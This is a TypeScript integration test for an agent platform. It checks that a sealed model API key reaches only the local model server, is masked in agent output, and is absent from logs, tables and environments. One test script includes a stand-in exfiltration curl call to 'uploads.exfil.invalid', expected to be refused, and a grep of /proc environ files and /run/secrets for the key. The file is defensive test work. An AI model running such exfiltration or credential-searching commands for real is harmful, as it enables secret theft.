import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { ModelServer } from '@hangar/agent/testing/model-server.js';
import type { AuditRecord, Environment } from '@hangar/api';
import {
  agentHarness,
  filesUnder,
  modelFlags,
  taskIdOf,
  until,
  type AgentHarness,
} from '../support/agents.js';
import { captureLogs } from '../support/capture-logs.js';
import { hangar } from '../support/cli.js';
import { startRecordingProxy } from '../support/recording-proxy.js';
import { repository } from '../support/repos.js';
import { startSystem, type System } from '../support/system.js';

// A model key sealed with the real CLI reaches the model server, and only it: not the control
// plane (tables, logs, the runner's connection) and not the environment, unless a command-line
// agent asks for it in a variable. Every request goes to 127.0.0.1 or is refused by the proxy.

const keyPrefix = 'sk-model-canary-';
const key = `${keyPrefix}${randomBytes(12).toString('hex')}`;
const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');

let system: System;
let model: ModelServer;
let proxy: Awaited<ReturnType<typeof startRecordingProxy>> | undefined;
let environment: Environment;
let env: NodeJS.ProcessEnv;
let agents: AgentHarness;
const logs = captureLogs();

before(async () => {
  system = await startSystem({
    logger: logs.logger,
    runnerRoute: async (url) => {
      const { hostname, port } = new URL(url);
      proxy = await startRecordingProxy({ host: hostname, port: Number(port) });
      return proxy.url;
    },
  });
  agents = agentHarness(system);
  // Every request without the key is refused with 401.
  model = await ModelServer.start({ key });
  env = {
    HANGAR_URL: system.cp.url,
    HANGAR_TOKEN: system.token,
    HANGAR_HOME: join(system.dir, 'cli'),
  };
  const modelPort = Number(new URL(model.url).port);
  const policy = await system.api('PATCH', '/v1/org/policy', {
    egress: {
      agents: {
        mode: 'allowlist',
        allow: [{ host: '127.0.0.1', ports: [modelPort] }],
        allowPrivate: ['127.0.0.0/8'],
      },
    },
  });
  assert.equal(policy.status, 200, JSON.stringify(policy.body));
  const set = await hangar(['secret', 'set', 'model-key', '--model-key'], env, `${key}\n`);
  assert.equal(set.code, 0, set.stderr);
  assert.ok(!set.stdout.includes(key) && !set.stderr.includes(key));
  // Secrets reach an environment when it starts: this one starts after the key was sealed.
  const repo = await repository(system.dir, 'keyed', { files: { 'README.md': '# keyed\n' } });
  environment = await system.createAndWait({ repository: { url: repo.dir } });
});

after(async () => {
  await system?.close();
  await model?.close();
  await proxy?.close();
});

const headerOf = (api: 'openai' | 'anthropic') =>
  api === 'openai'
    ? { name: 'authorization', value: `Bearer ${key}` }
    : { name: 'x-api-key', value: key };

for (const api of ['openai', 'anthropic'] as const) {
  test(`the sealed key reaches the model server as ${headerOf(api).name} (${api})`, async () => {
    model.push(
      { toolCalls: [{ name: 'run_command', arguments: { command: 'env' } }] },
      { toolCalls: [{ name: 'finish', arguments: { summary: 'looked around' } }] },
    );
    const sent = model.requests.length;
    const run = await hangar(
      [
        'agent',
        'run',
        '--env',
        environment.name,
        ...modelFlags(model, api),
        '--model-key-secret',
        'model-key',
        '--follow',
        'look at the environment',
      ],
      env,
    );
    assert.equal(run.code, 0, `${run.stdout}\n${run.stderr}`);
    const task = await agents.finalTask(taskIdOf(run));
    assert.equal(task.state, 'succeeded');
    const requests = model.requests.slice(sent);
    assert.equal(requests.length, 2);
    const { name, value } = headerOf(api);
    for (const request of requests) {
      assert.equal(request.api, api);
      assert.equal(request.headers[name], value);
      if (api === 'anthropic') assert.equal(request.headers.authorization, undefined);
      assert.ok(!JSON.stringify(request.body).includes(key), 'the key is in no request body');
    }
    assert.match(JSON.stringify(requests[1]?.body), /HTTP_PROXY=http:\/\/agent:/);
  });
}

test(
  'a command-line agent gets the key in --model-key-env, masked in its output, under the agents egress rule',
  { timeout: 120_000 },
  async () => {
    const script = [
      'printf "key: %s\\n" "$MY_MODEL_KEY"',
      'printf "%s" "$MY_MODEL_KEY" | sha256sum',
      // NO_PROXY names 127.0.0.1 (the sandbox's own loopback), so the proxy is named here.
      'curl -sS --max-time 20 --proxy "$HTTP_PROXY" --noproxy "" ' +
        '-H "x-api-key: $MY_MODEL_KEY" -H "anthropic-version: 2023-06-01" ' +
        `-H "content-type: application/json" -d '{"model":"m","max_tokens":9,"messages":[]}' ` +
        `${model.anthropicBaseUrl}/v1/messages; echo`,
      'curl -sS --max-time 20 --proxy "$HTTP_PROXY" --noproxy "" -o /dev/null ' +
        '-w "exfil %{http_code}\\n" http://uploads.exfil.invalid/collect',
    ].join('\n');
    const written = await agents.exec(
      environment.id,
      `cat > /tmp/key-agent.sh <<'EOF'\n${script}\nEOF`,
    );
    assert.equal(written.code, 0, written.out);
    model.push({ text: 'hello from the model' });
    const sent = model.requests.length;
    const run = await hangar(
      [
        'agent',
        'run',
        '--env',
        environment.name,
        ...modelFlags(model, 'anthropic'),
        '--model-key-secret',
        'model-key',
        '--command',
        'sh /tmp/key-agent.sh',
        '--prompt-on',
        'stdin',
        '--model-key-env',
        'MY_MODEL_KEY',
        '--follow',
        'call the model yourself',
      ],
      env,
    );
    assert.equal(run.code, 0, `${run.stdout}\n${run.stderr}`);
    const task = await agents.finalTask(taskIdOf(run));
    assert.equal(task.state, 'succeeded');
    assert.match(run.stdout, /key: \*\*\*/, 'the key is masked in the transcript');
    assert.ok(!run.stdout.includes(key));
    assert.ok(run.stdout.includes(sha256(key)), 'the program had the key in MY_MODEL_KEY');
    assert.match(run.stdout, /hello from the model/, 'it reached the model through the proxy');
    assert.match(run.stdout, /exfil 403/, 'anything else is refused by the agents rule');
    const request = model.requests[sent];
    assert.equal(request?.headers['x-api-key'], key);

    const { value: egress } = await until(
      'the egress records of the task',
      async () => {
        const { body } = await system.api<{ records: AuditRecord[] }>(
          'GET',
          '/v1/audit?action=environment.egress&limit=1000',
        );
        const mine = body.records.filter((record) => record.actor.id === task.id);
        return mine.length >= 2 ? mine : undefined;
      },
      { timeoutMs: 20_000 },
    );
    const decisions = egress.map((record) => [record.details.host, record.details.decision]);
    assert.deepEqual(decisions.sort(), [
      ['127.0.0.1', 'allowed'],
      ['uploads.exfil.invalid', 'denied'],
    ]);
    for (const record of egress) {
      assert.deepEqual(record.actor, { kind: 'agent', id: task.id, onBehalfOf: task.ownerId });
      assert.equal(record.details.policy, 'egress.agents');
    }
  },
);

test('the key is in no control-plane table, log or message, and in no environment', async () => {
  // Inside the environment, searched for the key's public prefix, so the search itself does not
  // carry the key into a command line or the runner's command log.
  const search = await agents.exec(
    environment.id,
    `env | grep -aF -- '${keyPrefix}'; grep -rsaFl -- '${keyPrefix}' /proc/[0-9]*/environ ` +
      `/run/secrets /tmp "$HOME" /workspaces; true`,
  );
  assert.equal(search.out, '', 'no process environment or file in the environment has the key');
  const controlPlane = await filesUnder(join(system.dir, 'control-plane'));
  assert.ok(controlPlane.length > 0);
  assert.ok(!controlPlane.includes(key), 'no control-plane table or file holds the key');
  assert.ok(!logs.text().includes(key), 'no log line holds the key');
  const wire = proxy?.recorded() ?? Buffer.alloc(0);
  assert.ok(wire.includes('agent-status'), 'the proxy saw the agent traffic');
  assert.ok(!wire.includes(key), 'the key never crossed the runner connection in clear');
  const runner = await filesUnder(join(system.dir, 'runner'));
  assert.ok(!runner.includes(key), 'no transcript or runner file holds the key in clear');
  const audit = await system.api('GET', '/v1/audit/export');
  assert.ok(!JSON.stringify(audit.body).includes(key));
});
